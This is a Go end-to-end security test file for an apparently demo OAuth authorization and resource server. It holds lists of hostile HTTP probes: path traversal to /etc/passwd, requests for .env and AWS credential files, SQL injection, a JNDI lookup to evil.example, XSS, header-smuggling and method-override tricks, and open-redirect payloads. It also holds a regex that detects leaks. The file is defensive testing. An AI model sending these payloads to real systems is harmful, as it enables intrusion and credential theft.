package e2e_test

import (
	"io"
	"net"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
)

// probes are request lines of scanners, less the version: files that others forgot on their servers, paths that leave a
// folder, and parameters that become code, SQL or markup elsewhere.
var probes = []string{
	"GET /.git/config", "GET /.env", "GET /.aws/credentials", "GET /.htpasswd", "GET /backup.sql", "GET /hallpass.db",
	"GET /keys.json", "GET /config.json", "GET /wp-login.php", "GET /phpinfo.php", "GET /server-status", "GET /console",
	"GET /actuator/env", "GET /actuator/heapdump", "GET /debug/pprof/", "GET /debug/vars", "GET /metrics",
	"GET /swagger.json",
	"GET /.well-known/../.env", "GET /.well-known/security.txt%00.html",
	"GET /.well-known/acme-challenge/../../etc/passwd",

	"GET /../../../../etc/passwd", "GET /%2e%2e/%2e%2e/%2e%2e/etc/passwd", "GET /..%2f..%2f..%2fetc%2fpasswd",
	"GET /..%5c..%5cwindows%5cwin.ini", "GET /....//....//etc/passwd", "GET /%252e%252e/%252e%252e/etc/passwd",
	"GET /..;/metrics", "GET /static/../../../etc/passwd", "GET /static/..%2f..%2fetc%2fpasswd",
	"GET /%c0%ae%c0%ae/etc/passwd",
	"GET //etc/passwd", "GET /etc/passwd%00", "GET file:///etc/passwd", "GET /proc/self/environ",

	"GET /?a=%zz", "GET /?a;b", "GET /?%00=%ff", "GET /login?continue=%ff%fe", "GET /%ff%fe", "GET /authorize?a=%zz",
	"GET /authorize?client_id=' OR 1=1--", "GET /authorize?client_id=%27%20OR%201%3D1--", "GET /authorize?client_id=%00",
	"GET /authorize?client_id=${jndi:ldap://evil.example/a}", "GET /authorize?client_id={{7*191}}",
	"GET /authorize?client_id=%3Cscript%3Ealert(1)%3C/script%3E", "GET /<script>alert(1)</script>",
	"GET /login?error=%3Cscript%3Ealert(1)%3C/script%3E", "GET /items/%27%3Bdrop%20table%20items", "GET /items/-1",
	"GET /items/99999999999999999999", "GET /items?limit=-1&cursor=%ff",
}

// tricks are requests with methods and headers by which a proxy and a server can differ. Each is at a path that exists.
var tricks = []string{
	"TRACE /", "TRACK /", "DEBUG /", "PROPFIND /", "get /", "GETX /", "CONNECT /", "PATCH /token", "DELETE /token",
	"GET /token\r\nX-HTTP-Method-Override: POST", "GET /token\r\nX-HTTP-Method: POST", "GET /token?_method=POST",
	"GET /users/me\r\nX-HTTP-Method-Override: DELETE",
	"GET /nowhere\r\nX-Original-URL: /metrics", "GET /nowhere\r\nX-Rewrite-URL: /metrics",
	"GET /metrics\r\nX-Forwarded-For: 127.0.0.1", "GET /metrics\r\nHost: localhost",
	"GET /metrics\r\nX-Real-Ip: 127.0.0.1",
	"GET http://localhost/metrics", "GET /debug/pprof/\r\nX-Custom-IP-Authorization: 127.0.0.1",
}

// leaks are what no response to a stranger may have: files, stacks, statements, addresses of other software.
var leaks = regexp.MustCompile(`root:x:|\[core\]|goroutine \d|\.go:\d|runtime error|panic|` +
	`(?i:sqlite|postgres|pgx|syntax error)|` +
	`/tmp/|/root/|/home/|go1\.\d|<script>alert|go_goroutines|HALLPASS_|TMPDIR=`)

// exchange sends a request on a connection of its own, and returns the response.
func exchange(t *testing.T, address, line, header string) string {
	t.Helper()
	c, err := net.Dial("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := c.SetDeadline(time.Now().Add(timeout)); err != nil {
		t.Fatal(err)
	}
	line, more, _ := strings.Cut(line, "\r\n")
	if !strings.Contains(more+header, "Host: ") {
		header += "Host: " + address + "\r\n"
	}
	if more != "" {
		header += more + "\r\n"
	}
	if _, err := io.WriteString(c, line+" HTTP/1.1\r\n"+header+"Connection: close\r\n\r\n"); err != nil {
		t.Fatal(err)
	}
	got, err := io.ReadAll(c)
	if err != nil {
		t.Fatalf("%.60q: %v", line, err)
	}
	return string(got)
}

// Scanners find nothing: a probe gets a page that everybody may read, or an error that reveals nothing about the
// server.
func TestHostileProbes(t *testing.T) {
	longTest(t)
	t.Parallel()
	s := startDemo(t)
	for _, tt := range []struct {
		server  *process
		address string
	}{{s.authserver, s.authAddress}, {s.resourceserver, s.apiAddress}} {
		for _, line := range slices.Concat(probes, tricks) {
			got := exchange(t, tt.address, line, "")
			if found := leaks.FindString(got); found != "" || !regexp.MustCompile(`^HTTP/1\.1 (200|4\d\d) `).MatchString(got) {
				t.Errorf("%s, %q: %q in\n%s", tt.server.name, line, found, got)
			}
			if strings.Contains(got, "\r\nServer: ") || strings.Contains(got, "\r\nX-Powered-By: ") {
				t.Errorf("%s, %q: the response names the software:\n%s", tt.server.name, line, got)
			}
			path := strings.Fields(line)[1]
			if strings.HasPrefix(got, "HTTP/1.1 200 ") && path != "/" && !strings.HasPrefix(path, "/?") &&
				!strings.HasPrefix(path, "/login") {
				t.Errorf("%s, %q: found\n%s", tt.server.name, line, got)
			}
		}
		if log := tt.server.output.String(); strings.Contains(log, "panic") {
			t.Errorf("%s has panicked:\n%s", tt.server.name, log)
		}
	}
}

// The Host header and the headers of proxies, such as X-Forwarded-Host, never get into a response, so that no cache and
// no mail leads users elsewhere. Nothing redirects to another host.
func TestHostileHosts(t *testing.T) {
	longTest(t)
	t.Parallel()
	s := startDemo(t)
	hosts := []string{
		"Host: evil.example\r\n", "Host: evil.example:1\r\n", "Host: user@evil.example\r\n",
		"X-Forwarded-Host: evil.example\r\n",
		"Forwarded: host=evil.example;proto=https\r\n", "X-Host: evil.example\r\n", "X-Forwarded-Server: evil.example\r\n",
		"X-Original-Host: evil.example\r\n", "X-Forwarded-Proto: evil.example\r\n", "X-Forwarded-Prefix: //evil.example\r\n",
		"Origin: https://evil.example\r\n", "Referer: https://evil.example/\r\n",
	}
	redirects := []string{
		"GET //evil.example", "GET //evil.example/..", "GET /%2fevil.example", "GET /\\evil.example", "GET /%5cevil.example",
		"GET /%0d%0aLocation:%20https://evil.example", "GET https://evil.example/", "GET /login?next=https://evil.example",
		"GET /login?continue=https://evil.example", "GET /logout?post_logout_redirect_uri=https://evil.example",
		"GET /authorize?client_id=nobody&redirect_uri=https://evil.example&response_type=code",
		"GET /end_session?post_logout_redirect_uri=https://evil.example", "GET /account?return_to=//evil.example",
	}
	for address, lines := range map[string][]string{
		s.authAddress: {"GET /", "GET /login", "GET /account", "GET /.well-known/openid-configuration", "GET /authorize",
			"GET /userinfo", "GET /jwks.json", "GET /nowhere", "POST /token"},
		s.apiAddress: {"GET /", "GET /users/me", "GET /.well-known/oauth-protected-resource", "GET /nowhere"},
	} {
		for _, line := range lines {
			for _, host := range hosts {
				if got := exchange(t, address, line, host); strings.Contains(got, "evil.example") {
					t.Errorf("%s with %q:\n%s", line, host, got)
				}
			}
		}
		for _, line := range redirects {
			head, _, _ := strings.Cut(exchange(t, address, line, ""), "\r\n\r\n")
			location := regexp.MustCompile(`(?im)^location: .*$`).FindString(head)
			if strings.Contains(location, "evil.example") {
				t.Errorf("%s: %s", line, location)
			}
		}
	}
}

// Headers such as X-HTTP-Method-Override do not change the method of a request (RFC 9110 section 9).
func TestHostileMethodOverride(t *testing.T) {
	longTest(t)
	t.Parallel()
	s := startDemo(t)
	token := s.login(t, "john.doe", demoPassword)
	for _, name := range []string{"X-Http-Method-Override", "X-Http-Method", "X-Method-Override"} {
		r := get("/users/me", "Bearer "+token)
		r.header[name] = []string{http.MethodDelete}
		if got := send(t, s.apiURL, r); got.status != http.StatusOK || got.text(t, "full_name") != "John Doe" {
			t.Errorf("%s: status %d: %s", name, got.status, got.body)
		}
		r = form("grant_type", "password", "username", "john.doe", "password", demoPassword)
		r.method = http.MethodGet
		r.header[name] = []string{http.MethodPost}
		if got := send(t, s.authURL, r); got.status != http.StatusMethodNotAllowed {
			t.Errorf("%s: status %d: %s", name, got.status, got.body)
		}
	}
}
